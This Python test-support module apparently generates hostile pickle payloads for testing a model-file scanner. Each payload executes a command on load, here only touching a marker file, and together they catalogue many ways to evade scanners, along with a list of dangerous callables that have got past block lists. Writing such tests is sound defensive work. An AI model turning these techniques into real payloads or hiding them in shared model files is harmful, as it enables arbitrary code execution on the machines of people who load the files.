"""What would run if a pickle were loaded.

BOMBS    name → function from the marker to opcodes that write the marker and push one value
"""

from __future__ import annotations

import shlex
from pathlib import Path

from support.hostile.opcodes import (
    Value,
    call,
    dict_of,
    get,
    instance,
    integer,
    integers,
    named,
    octets,
    pickled,
    put,
    storage,
    tensor,
    text,
    tuple_of,
)


def command(marker: Path) -> bytes:
    """Push the shell command that writes the marker."""
    return text(f"touch {shlex.quote(str(marker))}")


def os_system() -> bytes:
    """Push the function that runs a command."""
    return named("os", "system")


def bomb(marker: Path) -> bytes:
    """The plain one: a reduce that runs a command."""
    return call(os_system(), command(marker))


def exec_call(marker: Path) -> bytes:
    """Python source for `exec`."""
    return call(named("builtins", "exec"), text(f"open({str(marker)!r}, 'w')"))


def protocol_0(marker: Path) -> bytes:
    """The oldest opcodes, all of them text."""
    return f"cos\nsystem\np0\n(Vtouch {shlex.quote(str(marker))}\np1\ntp2\nRp3\n".encode()


def stack_global_from_memo(marker: Path) -> bytes:
    """The function's name comes from strings that were remembered long before."""
    names = text("os") + put(700) + b"0" + text("system") + put(701) + b"0"
    return names + call(get(700) + get(701) + b"\x93", command(marker))


def dotted_global(marker: Path) -> bytes:
    """A harmless module whose attribute leads elsewhere, which protocol 4 brought."""
    return b"\x80\x04" + call(text("shutil") + text("os.system") + b"\x93", command(marker))


def inst(marker: Path) -> bytes:
    """INST: class and arguments in one opcode."""
    return b"(" + command(marker) + b"ios\nsystem\n"


def obj(marker: Path) -> bytes:
    """OBJ: the class is the first item after the mark."""
    return b"(" + os_system() + command(marker) + b"o"


def extension(marker: Path) -> bytes:
    """EXT1: a number that only the reading program's own registry explains."""
    return call(b"\x82\x01", command(marker))


def new_object(marker: Path) -> bytes:
    """NEWOBJ of a class that writes a file when made."""
    arguments = (text(str(marker)), text("uint8"), text("w+"), integer(0), integers(4))
    return named("numpy", "memmap") + tuple_of(*arguments) + b"\x81"


def new_object_with_keywords(marker: Path) -> bytes:
    """NEWOBJ_EX of the same class."""
    keywords = dict_of((text("mode"), text("w+")), (text("shape"), integers(4)))
    return named("numpy", "memmap") + tuple_of(text(str(marker))) + keywords + b"\x92"


def build_with_setstate(marker: Path) -> bytes:
    """The first BUILD plants a `__setstate__`, which the second one calls."""
    planted = instance("argparse", "Namespace", ("__setstate__", os_system()))
    return planted + command(marker) + b"b"


def build_partial(marker: Path) -> bytes:
    """BUILD turns a harmless partial into another, which is then called."""
    harmless = call(named("functools", "partial"), named("builtins", "print"))
    return harmless + tuple_of(os_system(), tuple_of(command(marker)), b"}", b"N") + b"b)R"


def append_to_object(marker: Path) -> bytes:
    """APPEND calls the method of that name, whatever the object."""
    return instance("argparse", "Namespace", ("append", os_system())) + command(marker) + b"a"


def add_to_object(marker: Path) -> bytes:
    """ADDITEMS does the same with `add`."""
    return instance("argparse", "Namespace", ("add", os_system())) + b"(" + command(marker) + b"\x90"


def attribute_chain(marker: Path) -> bytes:
    """No dangerous name in sight: `getattr(__import__("o" "s"), …)`."""
    module = call(named("builtins", "__import__"), text("os"))
    return call(call(named("builtins", "getattr"), module, text("system")), command(marker))


def nested_pickle(marker: Path) -> bytes:
    """A pickle in bytes, given to `pickle.loads`."""
    return call(named("pickle", "loads"), octets(pickled(bomb(marker))))


def nested_torch(marker: Path) -> bytes:
    """A pickle in bytes, given to torch's own loader."""
    return call(named("torch.storage", "_load_from_bytes"), octets(pickled(bomb(marker))))


def as_key(marker: Path) -> bytes:
    """A key of a dictionary."""
    return dict_of((bomb(marker), tensor()))


def as_state(marker: Path) -> bytes:
    """The `_metadata` of a state_dict."""
    return call(named("collections", "OrderedDict")) + dict_of((text("_metadata"), bomb(marker))) + b"b"


def as_rebuild(marker: Path) -> bytes:
    """The function that a subclass of Tensor is rebuilt by."""
    rebuild = named("torch._tensor", "_rebuild_from_type_v2")
    return call(rebuild, os_system(), named("torch", "Tensor"), tuple_of(command(marker)), b"}")


def popped(marker: Path) -> bytes:
    """The result is thrown away, so that what is loaded looks clean."""
    return bomb(marker) + b"0" + tensor()


def popped_with_mark(marker: Path) -> bytes:
    """The same, away with all behind a mark."""
    return b"(" + bomb(marker) + b"1" + tensor()


def inst_before_mark(marker: Path) -> bytes:
    """INST whose result is popped, with a dotted name."""
    return b"(" + command(marker) + b"ishutil\nos.system\n" + b"0" + tensor()


def dotted_in_global(marker: Path) -> bytes:
    """GLOBAL follows dots as STACK_GLOBAL does, from protocol 4 on."""
    return b"\x80\x04" + call(named("torch.serialization", "os.system"), command(marker))


def module_of_dots(marker: Path) -> bytes:
    """A name that is harmless, `path.join`, and one through the same module that is not."""
    harmless = call(text("os") + text("path.join") + b"\x93", text("a"), text("b"))
    evil = call(text("os") + text("path.os.system") + b"\x93", command(marker))
    return b"\x80\x04" + tuple_of(harmless, evil)


def memoized_names(marker: Path) -> bytes:
    """MEMOIZE numbers what it keeps itself; the names come back by BINGET after others took their place."""
    kept = b"\x80\x04" + text("os") + b"\x940" + text("print") + b"\x940" + text("system") + put(1) + b"0"
    return kept + call(b"h\0h\1\x93", command(marker))


def names_by_other_opcodes(marker: Path) -> bytes:
    """One name in octal by STRING, the other escaped by UNICODE."""
    return b"\x80\x04" + call(b"S'\\157\\163'\n" + b"V\\u0073ystem\n" + b"\x93", command(marker))


def names_by_call(marker: Path) -> bytes:
    """A name that only exists once something has run."""
    return b"\x80\x04" + call(
        call(named("builtins", "str.lower"), text("OS")) + text("system") + b"\x93", command(marker)
    )


def names_by_duplicate(marker: Path) -> bytes:
    """DUP gives the name of a module that holds itself."""
    return b"\x80\x04" + call(text("os") + b"2\x93" + b"0" + os_system(), command(marker))


def unicode_name(marker: Path) -> bytes:
    """Letters that an identifier may be written in, and that Python folds."""
    return call("c\uff4f\uff53\nｓystem\n".encode(), command(marker))


def carriage_return(marker: Path) -> bytes:
    """A line end that some readers strip."""
    return call(b"cos\r\nsystem\r\n", command(marker)) + b"0" + call(b"c os \nsystem \n", command(marker))


def name_with_space(marker: Path) -> bytes:
    """`genops` joins the two names by a space, so a space in the first moves their border."""
    return call(b"cos system\nx\n", command(marker))


def extension_registered(marker: Path) -> bytes:
    """An extension code that the pickle registers itself, then uses; EXT2 and EXT4 beside it."""
    added = call(named("copyreg", "add_extension"), text("os"), text("system"), integer(77))
    return added + b"0" + tuple_of(*(call(code, command(marker)) for code in (b"\x82M", b"\x83M\0", b"\x84M\0\0\0")))


def build_slots(marker: Path) -> bytes:
    """BUILD of a pair: a dictionary, and slots that are set by `setattr`."""
    planted = (
        named("argparse", "Namespace") + b")\x81" + tuple_of(b"N", dict_of((text("__setstate__"), os_system()))) + b"b"
    )
    return planted + command(marker) + b"b"


def build_reduce_ex(marker: Path) -> bytes:
    """A `__reduce_ex__` is planted, which copying calls."""
    planted = instance("argparse", "Namespace", ("__reduce_ex__", os_system()), ("__deepcopy__", os_system()))
    return call(named("copy", "deepcopy"), planted, command(marker))


def build_class(marker: Path) -> bytes:
    """BUILD on a class, a module's function and on what a call gave."""
    changed = named("collections", "OrderedDict") + dict_of((text("__reduce__"), os_system())) + b"b0"
    return changed + os_system() + dict_of((text("__code__"), bomb(marker))) + b"b"


def modules_overwritten(marker: Path) -> bytes:
    """SETITEM in `sys.modules` gives a harmless name another meaning."""
    table = named("sys", "modules") + text("torch._utils") + call(named("builtins", "__import__"), text("os")) + b"s0"
    return table + call(named("torch._utils", "system"), command(marker))


def lazy_call(marker: Path) -> bytes:
    """`bytes(map(os.system, …))`: the one call is made by another's constructor."""
    mapped = call(named("builtins", "map"), os_system(), b"](" + command(marker) + b"e")
    return named("builtins", "bytes") + tuple_of(mapped) + b"\x81"


def default_factory(marker: Path) -> bytes:
    """A dictionary whose missing keys are made by a call."""
    made = call(named("functools", "partial"), os_system(), command(marker))
    return call(
        call(named("builtins", "getattr"), call(named("collections", "defaultdict"), made), text("__getitem__")), b"N"
    )


def persistent_call(marker: Path) -> bytes:
    """A call's result as the persistent id, alone and within a storage's."""
    return tuple_of(bomb(marker) + b"Q", tuple_of(text("storage"), bomb(marker), text("0"), bomb(marker), b"N") + b"Q")


def nested_in_numpy(marker: Path) -> bytes:
    """An array of objects holds a pickle of its own."""
    return tuple_of(
        call(named("numpy", "load"), text(str(marker)), b"N", b"\x88"),
        call(named("joblib.numpy_pickle", "load"), text(str(marker))),
        call(named("dill._dill", "loads"), octets(pickled(bomb(marker)))),
        call(named("_pickle", "loads"), octets(pickled(nested_pickle(marker)))),
    )


CALLABLES = (
    *(
        "posix.system",
        "os.execv",
        "os.popen",
        "pty.spawn",
        "subprocess.Popen",
        "subprocess.getoutput",
        "runpy._run_code",
    ),
    *("builtins.eval", "builtins.exec", "builtins.compile", "builtins.open", "builtins.breakpoint", "timeit.timeit"),
    *(
        "bdb.Bdb.run",
        "pdb.run",
        "cProfile.runctx",
        "profile.run",
        "trace.Trace.run",
        "code.InteractiveInterpreter.runcode",
    ),
    *(
        "pydoc.pipepager",
        "doctest.debug_script",
        "ensurepip._run_pip",
        "pip.main",
        "pkgutil.resolve_name",
        "imp.load_source",
    ),
    *(
        "logging.config._resolve",
        "operator.methodcaller",
        "operator.attrgetter",
        "importlib.import_module",
        "webbrowser.open",
    ),
    *("asyncio.unix_events._UnixSubprocessTransport._start", "ctypes.CDLL", "ctypes.cdll.LoadLibrary", "marshal.loads"),
    *(
        "types.FunctionType",
        "types.CodeType",
        "lib2to3.pgen2.grammar.Grammar.loads",
        "idlelib.pyshell.ModifiedInterpreter.runcode",
    ),
    *("numpy.testing._private.utils.runstring", "numpy.f2py.crackfortran.getlincoef", "shelve.open", "shutil.rmtree"),
    *(
        "torch.load",
        "torch.hub.load",
        "torch.jit.load",
        "torch.utils.cpp_extension.load_inline",
        "torch.serialization.load",
    ),
    *(
        "torch.jit.unsupported_tensor_ops.execWrapper",
        "torch._dynamo.guards.GuardBuilder.get",
        "torch.ops.load_library",
    ),
    *("torch.utils.bottleneck.__main__.run_cprofile", "torch.utils.collect_env.run", "torch.classes.load_library"),
    *(
        "torch.fx.graph_module._forward_from_src",
        "torch.package.PackageImporter",
        "torch._inductor.codecache.compile_file",
    ),
    *("torch.utils._config_module.ConfigModule.load_config", "torch.distributed.rpc.internal.deserialize", "site.main"),
    *(
        "urllib.request.urlretrieve",
        "socket.create_connection",
        "http.client.HTTPSConnection",
        "smtplib.SMTP",
        "_pickle.loads",
    ),
    *("torch.jit.save", "torch.export.load", "torch.UntypedStorage.from_file", "torch._C.import_ir_module"),
    *("torch.distributed.distributed_c10d._tensor_to_object", "numpy.ndarray.tofile", "enum.bltns.eval"),
    *("numpy.core._ufunc_reconstruct", "collections._sys.modules", "torch.PyTorchFileWriter"),
)
"""Functions by which one or another scanner's list has been passed, or that torch's own list once admitted."""


def callables(marker: Path) -> bytes:
    """All of them, each called with a command."""
    return tuple_of(*(call(named(*name.rsplit(".", 1)), command(marker)) for name in CALLABLES))


BOMBS: dict[str, Value] = {
    "popped": popped,
    "popped_with_mark": popped_with_mark,
    "inst_popped": inst_before_mark,
    "dotted_in_global": dotted_in_global,
    "module_of_dots": module_of_dots,
    "memoized_names": memoized_names,
    "names_by_other_opcodes": names_by_other_opcodes,
    "names_by_call": names_by_call,
    "names_by_duplicate": names_by_duplicate,
    "unicode_name": unicode_name,
    "carriage_return": carriage_return,
    "name_with_space": name_with_space,
    "extension_registered": extension_registered,
    "build_slots": build_slots,
    "build_reduce_ex": build_reduce_ex,
    "build_class": build_class,
    "modules_overwritten": modules_overwritten,
    "lazy_call": lazy_call,
    "default_factory": default_factory,
    "persistent_call": persistent_call,
    "nested_in_numpy": nested_in_numpy,
    "callables": callables,
    "reduce": bomb,
    "exec": exec_call,
    "protocol_0": protocol_0,
    "stack_global_from_memo": stack_global_from_memo,
    "dotted_global": dotted_global,
    "inst": inst,
    "obj": obj,
    "extension": extension,
    "new_object": new_object,
    "new_object_with_keywords": new_object_with_keywords,
    "build_with_setstate": build_with_setstate,
    "build_partial": build_partial,
    "append_to_object": append_to_object,
    "add_to_object": add_to_object,
    "attribute_chain": attribute_chain,
    "nested_pickle": nested_pickle,
    "nested_torch": nested_torch,
    "as_key": as_key,
    "as_state": as_state,
    "as_rebuild": as_rebuild,
    "as_size": lambda marker: tensor(size=bomb(marker)),
    "as_offset": lambda marker: tensor(offset=bomb(marker)),
    "as_storage": lambda marker: tensor(held_in=bomb(marker)),
    "as_storage_key": lambda marker: tensor(held_in=storage(key=bomb(marker))),
    "as_storage_numel": lambda marker: tensor(held_in=storage(numel=bomb(marker))),
}
